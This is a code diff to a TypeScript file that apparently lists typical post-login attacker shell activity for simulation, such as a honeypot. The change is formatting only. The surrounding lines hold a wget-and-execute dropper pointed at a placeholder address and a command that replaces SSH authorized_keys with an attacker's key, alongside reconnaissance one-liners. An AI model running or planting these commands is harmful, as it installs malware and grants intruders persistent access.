@@ -34,7 +34,12 @@ const CLIENTS: readonly Client[] = [
 /** What is typed after a login, the most frequent first. The address of the downloads is one for documentation. */
 const SHELL_VISITS: readonly (readonly string[])[] = [
   ["uname -a"],
-  ["cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", "uname -m", "w"],
+  [
+    "cat /proc/cpuinfo | grep name | wc -l",
+    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
+    "uname -m",
+    "w",
+  ],
   ["cd /tmp; wget http://198.51.100.23/bins/update.sh; chmod 777 update.sh; sh update.sh", "rm -rf update.sh"],
   [
     'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2E mdrfckr">>.ssh/authorized_keys',
